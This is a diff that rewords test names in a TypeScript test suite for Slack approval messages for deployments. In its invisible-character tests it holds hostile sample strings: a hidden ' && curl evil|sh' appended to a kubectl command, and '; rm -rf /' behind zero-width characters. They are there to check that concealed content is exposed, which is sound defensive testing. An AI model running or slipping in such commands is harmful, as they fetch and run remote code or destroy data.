@@ -100,7 +100,7 @@ describe('the menu of a message', () => {
     { name: 'unknown', why: 'gone' },
     { name: 'withdrawn' },
     decided,
-  ])('is behind its buttons, or beside its state: %j', (state) => {
+  ])('is next to its buttons, or beside its state: %j', (state) => {
     const route = routeWith();
     const { blocks } = approvalMessage('0-abc', approvalWith(), state, { route });
     const [menu, ...others] = blocks.flatMap((block): { readonly type: string }[] => {
@@ -118,8 +118,8 @@ describe('the menu of a message', () => {
   });
 });
 
-describe('a message that waits', () => {
-  test('shows what, who may decide, and two buttons that carry an id alone', () => {
+describe('a waiting message', () => {
+  test('shows the request, its reviewers, and two buttons that carry only an id', () => {
     expect(linesOf(WAITING)).toMatchInlineSnapshot(`
       "Deploy 4.2 · needs your decision
       # Deploy 4.2
@@ -177,7 +177,7 @@ describe('a message that waits', () => {
     `);
   });
 
-  test('shows everything the automation said', () => {
+  test('shows every text of the request', () => {
     const change = {
       fields: [
         ['Version', '4.2'],
@@ -199,7 +199,7 @@ describe('a message that waits', () => {
     `);
   });
 
-  test('shows how many have approved and how many it takes', () => {
+  test('shows how many have approved and how many are needed', () => {
     const state = { ...WAITING, approvedBy: ['U0ANA', 'U0BEN'], needed: 3 };
     expect(linesOf(state)).toMatchInlineSnapshot(`
       "Deploy 4.2 · needs your decision
@@ -210,7 +210,7 @@ describe('a message that waits', () => {
     `);
   });
 
-  test('shows the service silent since when', () => {
+  test('shows since when the service has not answered', () => {
     expect(linesOf({ ...WAITING, staleSince: NOW })).toMatchInlineSnapshot(`
       "Deploy 4.2 · needs your decision
       # Deploy 4.2
@@ -246,17 +246,17 @@ describe('a message that waits', () => {
       { ...WAITING, staleSince: null, unwatched: true },
       'The service has not answered. No longer watched: press Check now to see a decision made elsewhere.',
     ],
-  ])('shows what the service does instead of telling', (state, note) => {
+  ])('shows how the service failed', (state, note) => {
     expect(linesOf(state).split('\n').at(3)).toBe(`(:warning: ${note})`);
   });
 
-  test('offers to check while the service refuses access, as an administrator may have mended it', () => {
+  test('has Check now while the service refuses access', () => {
     const trouble = { why: 'denied', status: 401 } as const;
     const denied = linesOf({ ...WAITING, staleSince: NOW, trouble });
     expect(denied.split('\n').at(-1)).toBe('[Approve: 0-abc] [Reject: 0-abc] [Check now: 0-abc]');
   });
 
-  test('offers to check when it is no longer watched', () => {
+  test('has Check now when it is no longer watched', () => {
     expect(linesOf({ ...WAITING, unwatched: true })).toMatchInlineSnapshot(`
       "Deploy 4.2 · needs your decision
       # Deploy 4.2
@@ -285,7 +285,7 @@ describe('a message that waits', () => {
     ['*Waiting for* <@U0ANA>', { ...named, users: ['U0ANA', 'U0BEN'] }, asked],
     ['*Waiting* · nobody else can decide', { ...named, users: ['U0BEN'] }, asked],
     ['*Waiting* · nobody can decide: no reviewers are configured', named, {}],
-  ])('asks %s', (words, reviewers, change) => {
+  ])('shows who can decide: %s', (words, reviewers, change) => {
     const lines = linesOf(WAITING, change, routeWith({ reviewers })).split('\n');
     expect(lines).toContain(`:hourglass: ${words}`);
   });
@@ -340,7 +340,7 @@ describe('a message that waits', () => {
       [],
     ],
   ])(
-    'asks %s, as it was escalated, and mentions no quiet reviewer',
+    'shows who can decide after an escalation, without quiet reviewers: %s',
     (words, route, change, approvedBy) => {
       const state = { ...WAITING, approvedBy, needed: route.quorum ?? 1 };
       const lines = linesOf(state, change, { ...routeWith(), ...route });
@@ -350,7 +350,7 @@ describe('a message that waits', () => {
     },
   );
 
-  test('asks who asked, too, where the route lets them decide', () => {
+  test('includes the requester if the route allows self-approval', () => {
     const lines = linesOf(WAITING, asked, routeWith({ selfApproval: true }));
     expect(lines).toContain('*Waiting for* <@U0ANA> or <@U0BEN>');
   });
@@ -365,7 +365,7 @@ describe('a message that waits', () => {
     );
   });
 
-  test('says how many more of those who can decide are needed', () => {
+  test('says how many of the remaining reviewers are needed', () => {
     const users = ['U0ANA', 'U0BEN', 'U0CLEO'];
     const waitsFor = (state: Partial<MessageState>, groups: readonly string[] = []) => {
       const reviewers = { users, groups: [...groups], channel: false };
@@ -394,7 +394,7 @@ describe('a message that waits', () => {
     return linesOf(state, approval, terms.route).split('\n')[2];
   };
 
-  test('says whom it needs: of each need, and how many besides', () => {
+  test('lists who is needed for each need, and how many more', () => {
     expect(stateLine([], {})).toBe(
       ':hourglass: *Waiting for* 1 of SRE (<@U0ANA>, <!subteam^S0SRE>), 2 of Q&amp;A (<!subteam^S0SEC>) · 0 of 3 approvals',
     );
@@ -411,7 +411,7 @@ describe('a message that waits', () => {
     );
   });
 
-  test('says that either helps, where somebody who approved can count for the other', () => {
+  test('says “or” for two needs if an approver can count for either', () => {
     const need = [SRE, { ...SECURITY, count: 1 }];
     expect(stateLine([approves('U0BEN', 'S0SRE', 'S0SEC')], { need })).toBe(
       ':hourglass: *Waiting for* 1 of SRE or Q&amp;A (<@U0ANA>, <!subteam^S0SRE>, <!subteam^S0SEC>) · 1 of 2 approvals (<@U0BEN>)',
@@ -419,7 +419,7 @@ describe('a message that waits', () => {
     expect(stateLine([approves('U0BEN', 'S0SRE')], { need })).toContain('* 1 of Q&amp;A (');
   });
 
-  test('is asked of whoever is left where every need is covered', () => {
+  test('lists the remaining reviewers once every need is covered', () => {
     const need = [SRE];
     expect(stateLine([approves('U0BEN', 'S0SRE')], { need, quorum: 2 })).toBe(
       ':hourglass: *Waiting for* <!subteam^S0SRE> or <!subteam^S0SEC> · 1 of 2 approvals (<@U0BEN>)',
@@ -435,7 +435,7 @@ describe('a message that waits', () => {
     expect(lacking('A', 'B', 'C', 'D')).toContain('from A or B or 2 more can approve.');
   });
 
-  test('fits, however much it needs', () => {
+  test('stays within Slack’s limits, however many needs there are', () => {
     const of = {
       users: Array.from({ length: 40 }, (_, at) => `U${String(at).padStart(10, '0')}`),
       groups: Array.from({ length: 10 }, (_, at) => `S${String(at).padStart(10, '0')}`),
@@ -454,7 +454,7 @@ describe('a message that waits', () => {
     }
   });
 
-  test('asks nobody who approved', () => {
+  test('does not list people who have approved', () => {
     const state = { ...WAITING, approvedBy: ['U0ANA'], needed: 2 };
     expect(linesOf(state)).toContain('*Waiting for* <@U0BEN> ·');
     const cast = { user: 'U1ANA', action: 'approve', at: NOW, alsoKnownAs: ['U0ANA'] } as const;
@@ -462,13 +462,13 @@ describe('a message that waits', () => {
     expect(other).toContain('*Waiting for* <@U0BEN> ·');
   });
 
-  test('says that nobody can decide when its route is gone', () => {
+  test('says that nobody can decide if its route is not configured', () => {
     const { blocks } = approvalMessage('0-abc', approvalWith(), WAITING, { route: undefined });
     expect(JSON.stringify(blocks)).toContain('nobody can decide: the route is not configured');
   });
 
   test.each(['Approved: 4.2', 'Approved', 'Timed out: x'])(
-    'never states an outcome in its notification, whatever it is called: %s',
+    'never states an outcome in its notification, whatever its title is: %s',
     (title) => {
       const states: MessageState[] = [
         WAITING,
@@ -489,12 +489,12 @@ describe('a message that waits', () => {
     },
   );
 
-  test('names no source that only the environment configures, and none of its own', () => {
+  test('does not name a source without a name in the configuration, except by its given name', () => {
     expect(linesOf(WAITING)).not.toContain('sked by');
     expect(linesOf(WAITING, { sourceName: 'Releases' })).toContain('(Asked by *Releases*)');
   });
 
-  test('says which source asks where nobody is named, in its notification too', () => {
+  test('names its source if there is no requester, also in the notification', () => {
     const shown = linesOf(WAITING, { source: 'deploys' });
     expect(shown).toMatch(/^Deploy 4\.2 · asked by deploys · needs your decision\n/);
     expect(shown).toContain('(Asked by *deploys*)');
@@ -503,7 +503,7 @@ describe('a message that waits', () => {
     expect(named).toContain('(Asked by *R&amp;D &lt;!here&gt; deploys*)');
   });
 
-  test('names the source for nobody who is named, and mentions nobody in its notification', () => {
+  test('names the requester instead of the source, without a mention in the notification', () => {
     const byName = linesOf(WAITING, { source: 'deploys', requester: { name: 'Night <shift>' } });
     expect(byName).toContain('Deploy 4.2 · asked by Night &lt;shift&gt; · needs');
     const byUser = linesOf(WAITING, { source: 'deploys', requester: { user: 'U0RITA' } });
@@ -511,14 +511,14 @@ describe('a message that waits', () => {
     expect(byName + byUser).not.toContain('deploys');
   });
 
-  test('without a title is called what its first line says', () => {
+  test('without a title takes the first line as its title', () => {
     const { title, ...untitled } = approvalWith({ message: '\n Deploy `4.2`?\nAll is green.' });
     const { text, blocks } = approvalMessage('0-abc', untitled, WAITING, { route: routeWith() });
     expect(text).toBe('Deploy `4.2`? · needs your decision');
     expect(blocks[0]).toMatchObject({ type: 'header', text: { text: 'Deploy `4.2`?' } });
   });
 
-  test('asks again before an approval where the route says so', () => {
+  test('asks for confirmation before an approval if the route requires it', () => {
     const { blocks } = approvalMessage('0-abc', approvalWith(), WAITING, {
       route: routeWith({ confirm: true }),
     });
@@ -527,7 +527,7 @@ describe('a message that waits', () => {
     expect(reject).not.toHaveProperty('confirm');
   });
 
-  test('shows code, addresses and what exactly is approved, and nothing else of any markup', () => {
+  test('formats code, addresses and the change, and no other markup', () => {
     const change = {
       message:
         'Run `make <deploy>` as in https://ci.example.com/7.\n```sh\nmake all\n```\n*Now* <!here>',
@@ -548,13 +548,13 @@ describe('a message that waits', () => {
     `);
   });
 
-  test('has no buttons before all of it is posted', () => {
+  test('has no buttons before its replies are posted', () => {
     const lines = linesOf({ ...WAITING, posting: true }, { change: 'x'.repeat(40_000) });
     expect(lines).toContain('<@U0BEN> · 5 replies are still being posted below');
     expect(lines).not.toContain('[Approve');
   });
 
-  test('fits, however many long addresses its title names', () => {
+  test('stays within Slack’s limits, however many long addresses its title has', () => {
     const words = Array.from(
       { length: 5 },
       (_, at) => `https://x.example/${at}${'a'.repeat(1_600)}`,
@@ -568,7 +568,7 @@ describe('a message that waits', () => {
     expect(links.map(({ text }) => text)).toEqual(Array(35).fill('https://y.example'));
   });
 
-  test('says that nothing was said', () => {
+  test('says that no description was given, or that the service has not given one yet', () => {
     const { message, ...silent } = approvalWith();
     const promptOf = (watch: Approval['watch']) =>
       approvalMessage('0-abc', { ...silent, watch }, WAITING, { route: routeWith() }).blocks[2];
@@ -580,7 +580,7 @@ describe('a message that waits', () => {
     expect(promptOf({ ...seen, state: 'unknown', why: 'gone' })).toEqual(unsaid);
   });
 
-  test('says nothing of the service in the place of an own gate without words', () => {
+  test('of an own gate without a text does not speak of the service', () => {
     const { message, ...silent } = approvalWith({ key: 'deploy-7' });
     const terms = { route: routeWith() };
     const { blocks } = approvalMessage('0-abc', silent, WAITING, terms);
@@ -591,7 +591,7 @@ describe('a message that waits', () => {
 });
 
 describe('while the service is waited for', () => {
-  test('who pressed is not named before they were checked, and everybody can press', () => {
+  test('the person who pressed is not named before they are checked, and the buttons stay', () => {
     const waiting = { ...WAITING, needed: 2, approvedBy: ['U0BEN'], serviceUntil: NOW + 30_000 };
     expect(linesOf(waiting)).toMatchInlineSnapshot(`
       "Waiting for the service: Deploy 4.2
@@ -604,7 +604,7 @@ describe('while the service is waited for', () => {
 
   const whose = { action: 'reject', by: 'U0ANA' } as const;
 
-  test('a decision that was not sent is named, says until when, and has no buttons', () => {
+  test('an unsent decision names its author and its time limit, and has no buttons', () => {
     const unsent = { name: 'unsent', ...whose, until: NOW + 30_000 } as const;
     expect(linesOf(unsent)).toMatchInlineSnapshot(`
       "Waiting for the service: Deploy 4.2
@@ -624,7 +624,7 @@ describe('while the service is waited for', () => {
     );
   });
 
-  test('a decision that is being sent, or was and is not confirmed, has no buttons', () => {
+  test('a decision that is being sent, or is unconfirmed, has no buttons', () => {
     expect(linesOf({ name: 'sending', ...whose })).toMatchInlineSnapshot(`
       "Sending a decision: Deploy 4.2
       # Deploy 4.2
@@ -640,8 +640,8 @@ describe('while the service is waited for', () => {
   });
 });
 
-describe('an outcome', () => {
-  test('names who decided, with the time of the service', () => {
+describe('the message of an outcome', () => {
+  test('names who decided, and when', () => {
     expect(linesOf(decided)).toMatchInlineSnapshot(`
       "Approved: Deploy 4.2
       # Deploy 4.2
@@ -656,7 +656,7 @@ describe('an outcome', () => {
     ).toMatchInlineSnapshot(`"> To production?"`);
   });
 
-  test('that nobody confirmed says whose answer was sent', () => {
+  test('that the service did not confirm says whose decision was sent', () => {
     expect(linesOf({ ...decided, credit: 'sent' })).toMatchInlineSnapshot(`
       "Approved: Deploy 4.2
       # Deploy 4.2
@@ -667,19 +667,19 @@ describe('an outcome', () => {
     `);
   });
 
-  test('of elsewhere credits nobody and invents no time', () => {
+  test('decided elsewhere credits nobody and shows no time', () => {
     const elsewhere = { ...decided, credit: 'none', by: [], resolvedAt: null } as const;
     expect(linesOf(elsewhere).split('\n').at(2)).toMatchInlineSnapshot(
       `":white_check_mark: *Approved elsewhere*"`,
     );
   });
 
-  test('of time is not one of people', () => {
+  test('by timeout names nobody', () => {
     const late = { ...decided, status: 'TIMED_OUT', credit: 'none', by: [] } as const;
     expect(linesOf(late).split('\n').at(2)).toMatchInlineSnapshot(`":alarm_clock: *Timed out*"`);
   });
 
-  test('with a time that is none is shown verbatim, or not at all when it is endless', () => {
+  test('shows an unreadable time verbatim, or omits a very long one', () => {
     const line = (resolvedAt: string) =>
       linesOf({ ...decided, resolvedAt })
         .split('\n')
@@ -690,7 +690,7 @@ describe('an outcome', () => {
   });
 });
 
-test('an unknown state says why, whose answer is in doubt, and offers to check', () => {
+test('an unknown state gives the reason and whose decision is unconfirmed, and has Check now', () => {
   expect(linesOf({ name: 'unknown', why: 'gone' })).toMatchInlineSnapshot(`
     "State unknown: Deploy 4.2
     # Deploy 4.2
@@ -718,7 +718,7 @@ test('an unknown state says why, whose answer is in doubt, and offers to check',
 test.each([
   [`Q & A ${'x'.repeat(200)}; y`, `Q & A ${'x'.repeat(143)}…`],
   ['😀'.repeat(100), `${'😀'.repeat(74)}…`],
-])('a long title is cut, and no earlier than it has to be', (title, shown) => {
+])('a long title is cut at the limit and not before', (title, shown) => {
   expect(linesOf(WAITING, { title }).split('\n')[1]).toBe(`# ${shown}`);
 });
 
@@ -730,20 +730,20 @@ describe('the link to a run', () => {
     return JSON.stringify(approvalMessage('0-abc', approvalWith({ link, title }), state, terms));
   };
 
-  test('is read out with its host, however long the title is', () => {
+  test('has a label with its host, however long the title is', () => {
     const [, spoken = ''] = /"accessibility_label":"(Open run[^"]*)"/.exec(shown(WAITING)) ?? [];
     expect(spoken).toMatch(/^Open run on ci\.example\.com: Deploy x+…$/);
     expect(spoken.length).toBeLessThanOrEqual(75);
   });
 
-  test('says its host in a folded message too, unless one expects it there', () => {
+  test('shows its host in a folded message, unless the host is an expected one', () => {
     const folded = { ...decided, folded: true } as const;
     expect(shown(folded)).toContain(`<${link}|Open run on ci.example.com>`);
     expect(shown(folded, ['ci.example.com'])).toContain(`<${link}|Open run>`);
   });
 });
 
-test('of a long change the message shows the first lines, and says how many more there are', () => {
+test('a long change shows its first lines, and how many more are in the thread', () => {
   const change = Array.from({ length: 30 }, (_, at) => `  line ${at}`).join('\n');
   const { blocks } = approvalMessage('0-abc', approvalWith({ change }), WAITING, termsWith());
   const [, notice] = blocks.slice(blocks.findIndex(({ type }) => type === 'rich_text'));
@@ -755,7 +755,7 @@ test('of a long change the message shows the first lines, and says how many more
   expect(overflowCount(approvalWith({ change: `${short}\n` }))).toBe(0);
 });
 
-test('what does not fit is in the thread, begun and continued', () => {
+test('a text that does not fit continues in the thread', () => {
   const message = `${'word '.repeat(505)}end`;
   expect(linesOf(WAITING, { message })).toContain('\nMore in the thread ↓');
   expect(overflowMessage(approvalWith({ message }), 1)).toMatchInlineSnapshot(`
@@ -788,14 +788,14 @@ test.each<Partial<Approval>>([
   { link: `https://ci.example.com/${'x'.repeat(700)}` },
   { fields: [['Version', '\u200b\u200c'.repeat(2_000)]] },
   { requester: { name: 'x'.repeat(25_000) } },
-])('replies are counted of the texts as they are now, in every poll %#', (change) => {
+])('the number of replies is computed from the current texts on every poll %#', (change) => {
   for (const each of [approvalWith(change), approvalWith(), approvalWith(change)]) {
     expect(overflowCount(each)).toBe(repliesFor(excerptOf(each)));
   }
   expect(overflowCount(approvalWith(change))).toBeGreaterThan(0);
 });
 
-test('what exactly is approved is whole, its rest in replies that are preformatted too', () => {
+test('a long change is complete, and its rest is preformatted in the replies too', () => {
   const change = Array.from({ length: 5_000 }, (_, at) => `line ${at}`)
     .join('\n')
     .slice(0, 40_000);
@@ -809,7 +809,7 @@ test('what exactly is approved is whole, its rest in replies that are preformatt
   expect(all.join('').replaceAll('……', '')).toBe(change);
 });
 
-describe('what nobody would see', () => {
+describe('invisible characters', () => {
   const command = 'kubectl apply -f x';
   const tags = [...' && curl evil|sh'].map((char) => 0xe0000 + char.charCodeAt(0));
 
@@ -821,7 +821,7 @@ describe('what nobody would see', () => {
     ['\ufe0f', '⟨U+FE0F⟩', 1],
     ['\u00ad', '⟨U+00AD⟩', 1],
     ['\u200b'.repeat(1_200), '⟨U+200B × 1,200⟩', 1_200],
-  ])('of a change is shown, counted and part of the digest: %j', (hidden, shown, count) => {
+  ])('in a change are shown, counted and part of the digest: %j', (hidden, shown, count) => {
     const change = command + hidden;
     const lines = linesOf(WAITING, { change });
     expect(lines).toContain(`\`\`\` ${command}${shown}`);
@@ -833,7 +833,7 @@ describe('what nobody would see', () => {
     expect(digest).not.toBe(digestOf(approvalWith({ change: command })));
   });
 
-  test('is counted wherever it stands, once', () => {
+  test('are counted once wherever they are', () => {
     const hidden = approvalWith({
       ...{ title: 'De\u200bploy', message: 'a\u200b\u202eb', change: 'a\u00a0b' },
       fields: [['Ver\u00adsion', '4\u2060.2']],
@@ -849,7 +849,7 @@ describe('what nobody would see', () => {
     });
   });
 
-  test('is not spelled out without end, and pushes nothing out of sight', () => {
+  test('are spelled out up to a limit, and hide nothing else', () => {
     const change = `${'\u200b\u200c'.repeat(19_990)}; rm -rf /`;
     const approval = approvalWith({ change });
     const { rest, unshown } = excerptOf(approval);
@@ -860,20 +860,20 @@ describe('what nobody would see', () => {
     );
   });
 
-  test('goes into replies where it is too long once it can be seen', () => {
+  test('make a text continue in replies if it gets too long once they are spelled out', () => {
     const change = 'a\u200b'.repeat(700);
     expect(overflowCount(approvalWith({ change: 'ab'.repeat(700) }))).toBe(0);
     expect(overflowCount(approvalWith({ change }))).toBe(1);
   });
 
-  test('of an emoji or a word is seen there', () => {
+  test('that belong to an emoji or a word are left as they are', () => {
     const words = { message: '👩‍🚀 می\u200cخواهم', change: '+ 👩‍🚀 \u2714\ufe0f می\u200cخواهم' };
     expect(linesOf(WAITING, words)).not.toContain('invisible');
     expect(linesOf(WAITING, words)).toContain(words.message);
   });
 });
 
-describe('colours and links of a terminal', () => {
+describe('terminal colors and links', () => {
   const link = '\x1b]8;;https://a.example\x1b\\run 7\x1b]8;;\x1b\\';
 
   test.each([
@@ -882,7 +882,7 @@ describe('colours and links of a terminal', () => {
     ['change', { change: '\x1b[32m+\x1b[0m added' }, '``` + added'],
     ['field', { fields: [['Run', link]] as const }, 'Run: run 7'],
     ['name', { requester: { name: '\x1b[33mAna\x1b[0m' } }, 'Asked by Ana'],
-  ])('go from a %s, and the small print says so', (_what, change, shown) => {
+  ])('are removed from a %s, and a note says so', (_what, change, shown) => {
     const lines = linesOf(WAITING, change);
     expect(lines).toContain(shown);
     expect(lines).not.toContain('\x1b');
@@ -890,13 +890,13 @@ describe('colours and links of a terminal', () => {
     expect(lines).not.toContain('invisible');
   });
 
-  test('are part of the digest: it is of the file that was sent', () => {
+  test('are part of the digest, which is taken from the file as sent', () => {
     const [plain, green] = ['+ added', '\x1b[32m+\x1b[0m added'];
     const [one, other] = [plain, green].map((change) => digestOf(approvalWith({ change })));
     expect(one).not.toBe(other);
   });
 
-  test('stand beside what is invisible, and what else a terminal carries out is shown', () => {
+  test('are removed, while other control characters are shown and counted as invisible', () => {
     const lines = linesOf(WAITING, { change: '\x1b[1ma\x1b[0m\x1b[2Kb' });
     expect(lines).toContain('``` a�[2Kb');
     expect(lines).toContain(
@@ -905,12 +905,12 @@ describe('colours and links of a terminal', () => {
   });
 });
 
-describe('a change that is the beginning of something longer', () => {
+describe('a change that is cut from a longer file', () => {
   const sha256 = '9c1f'.repeat(16);
   const cut = (shown: number) =>
     ({ change: '+ added\n'.repeat(shown), cutFrom: { lines: 2_500, sha256, shown } }) as const;
 
-  test('is said to be that, with the digest of the whole', () => {
+  test('says which lines it shows, with the digest of the whole file', () => {
     const lines = linesOf(WAITING, cut(900));
     expect(lines).toContain(
       `:scissors: *Lines 1 to 900 of 2,500 are what you approve* · SHA-256 of the whole file: \`${sha256}\``,
@@ -922,7 +922,7 @@ describe('a change that is the beginning of something longer', () => {
     expect(linesOf(WAITING, { change: '+ added' })).not.toContain('what you approve');
   });
 
-  test('has another digest than the whole, and than the beginning of another', () => {
+  test('has another digest than the same text uncut, because the whole file is part of it', () => {
     const { cutFrom, change } = cut(2);
     const digest = digestOf(approvalWith({ message: 'Apply?', change, cutFrom }));
     const whole = { lines: 2_500, sha256 };
@@ -932,7 +932,7 @@ describe('a change that is the beginning of something longer', () => {
   });
 });
 
-test('the digest is of the texts as they were sent, but for the CR of their line ends', () => {
+test('the digest covers the texts as sent, except for a CR before a line feed', () => {
   const digest = (change: string) => digestOf(approvalWith({ message: 'Apply?', change }));
   const canonical = { change: 'a\n\u200bb\u2028c\u001b', message: 'Apply?', title: 'Deploy 4.2' };
   const expected = createHash('sha256').update(JSON.stringify(canonical)).digest('hex');
@@ -959,18 +959,18 @@ test.each([
   expect(overflowMessage(approval, 9).blocks).toHaveLength(3);
 });
 
-test('without a link nobody is sent to one', () => {
+test('without a link the note about left-out characters refers to none', () => {
   const change = { message: 'x'.repeat(100_000) };
   expect(linesOf(WAITING, change)).toMatch(/\d more characters did not fit into Slack\./);
 });
 
-test('a title that is taken from a long line is said once', () => {
+test('a title taken from a long first line is shown once', () => {
   const { title, ...untitled } = approvalWith({ message: 'x'.repeat(3_000) });
   expect(excerptOf(untitled)).toMatchObject({ title: `${'x'.repeat(149)}…`, rest: [[{}]] });
   expect(overflowCount(untitled)).toBe(1);
 });
 
-test('short fields share a section', () => {
+test('short fields share one section', () => {
   const fields = Array.from({ length: 50 }, (_, at) => [`Field ${at}`, 'value'] as const);
   expect(excerptOf(approvalWith({ fields })).rest).toHaveLength(1);
 });
